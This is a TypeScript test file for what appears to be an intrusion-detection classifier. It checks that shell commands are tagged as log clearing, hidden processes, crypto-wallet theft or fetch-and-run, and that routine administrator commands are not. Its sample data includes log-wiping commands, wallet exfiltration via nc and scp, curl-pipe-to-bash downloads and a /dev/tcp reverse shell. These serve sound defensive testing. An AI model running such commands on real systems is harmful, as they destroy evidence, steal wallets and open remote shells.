import assert from "node:assert/strict";
import { test } from "node:test";
import { deedsIn } from "../../src/tables/deeds.ts";
import { isIntrudersFirst, OPEN_INTERFACES } from "../../src/tables/service-users.ts";
import { webExploit } from "../../src/tables/web-exploits.ts";

/** Command lines and what they show: "group kind" each, in the order of the table. */
const SHOWN: readonly (readonly [string, readonly string[]])[] = [
  ["history -c", ["log-clearing history"]],
  ["history -c && rm -rf ~/.bash_history", ["log-clearing history"]],
  ["ln -sf /dev/null /root/.bash_history", ["log-clearing history"]],
  ["unset HISTFILE HISTSAVE; export HISTSIZE=0", ["log-clearing history-off"]],
  ["export HISTFILE=/dev/null", ["log-clearing history-off"]],
  ["cat /dev/null > /var/log/wtmp", ["log-clearing login-logs"]],
  ["shred -u /var/log/secure", ["log-clearing login-logs"]],
  ["rm -rf /var/log/", ["log-clearing all-logs"]],
  ["sed -i '/198.51.100.23/d' /var/log/auth.log", ["log-clearing lines"]],
  ["journalctl --rotate --vacuum-time=1s", ["log-clearing journal"]],
  ["wevtutil.exe cl Security", ["log-clearing windows-log"]],
  ["/usr/bin/chattr +i /etc/cron.d/apache", ["immutable-files lock"]],
  ["chattr -R -ia /var/spool/cron/", ["immutable-files unlock"]],
  ["mv /usr/bin/curl /usr/bin/url", ["renamed-tools renamed"]],
  ["chmod 000 /usr/bin/chattr", ["renamed-tools disabled"]],
  ["mount -o bind /tmp/.e /proc/4242", ["hidden-process mount"]],
  ["insmod /root/diamorphine.ko", ["hidden-process module"]],
  ["find / -name wallet.dat -o -name '*.keys'", ["wallet-theft sought"]],
  ["scp -r ~/.electrum/wallets root@198.51.100.23:/w", ["wallet-theft sent"]],
  ["cat wallet.dat | nc 198.51.100.23 9000", ["wallet-theft sent", "wallet-theft read"]],
  ["grep -r nkbihfbeogaeaoehlefnkodbefgpgknn ~/.config", ["wallet-theft sought"]],
  ["curl -s http://203.0.113.66/x.sh | bash", ["harm fetched-and-run"]],
  ["wget http://203.0.113.66/a; chmod 777 a; ./a", ["harm fetched-and-run"]],
  ["echo aWQK | base64 -d | sh", ["harm decoded-and-run"]],
  ["nohup /tmp/.x/kdev -B", ["harm ran-temporary"]],
];

/** What administrators type. */
const NOTHING: readonly string[] = [
  "history | grep -c ssh",
  "man history -c",
  "vim /var/log/auth.log",
  "tail -f /var/log/wtmp",
  "rm /var/log/myapp/old.log",
  "journalctl --vacuum-time=10d",
  "journalctl --vacuum-size=500M",
  "sed -i 's/a/b/' /etc/logrotate.conf",
  "lsattr -R /etc",
  "mv /usr/local/bin/deploy /usr/local/bin/deploy2",
  "chmod 755 /usr/bin/find",
  "mount -t proc proc /mnt/root/proc",
  "mount --bind /proc /srv/chroot/proc",
  "keytool -list -keystore /opt/app/keystore.jks",
  "cat src/keys/README",
  "curl -fsSL https://get.example.com | sh",
  "curl http://127.0.0.1:8080/health",
  "crontab -l | grep backup",
  "base64 -d key.b64 > key",
  "ls -la /tmp",
];

test("command lines show deeds by their group and kind", () => {
  for (const [text, expected] of SHOWN) {
    const shown = deedsIn(text).map(({ group, kind }) => `${group} ${kind}`);
    assert.deepEqual(shown, expected, text);
  }
});

test("what administrators type shows none", () => {
  for (const text of NOTHING) assert.deepEqual(deedsIn(text), [], text);
});

test("a web server's own commands are told from an intruder's first ones", () => {
  const theirs = [
    "id",
    "sh -c id; uname -a",
    "whoami",
    "bash -c curl http://203.0.113.66/a.sh -o /tmp/a",
    "wget -qO- http://203.0.113.66/x|sh",
    "/bin/sh -c nproc",
    "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
  ];
  const own = [
    "sh -c convert in.png out.png",
    "/usr/sbin/sendmail -t -i",
    "wget -q -O /dev/null http://www.example/cron.php",
    "curl -s https://api.example/v1/rates",
    "php artisan schedule:run",
    "sh -c git rev-parse HEAD",
  ];
  for (const text of theirs) assert.equal(isIntrudersFirst(text), true, text);
  for (const text of own) assert.equal(isIntrudersFirst(text), false, text);
});

test("interfaces that anybody may ask are rows of the table of requests", () => {
  for (const id of OPEN_INTERFACES.keys()) assert.ok(webExploit(id) !== undefined, id);
});
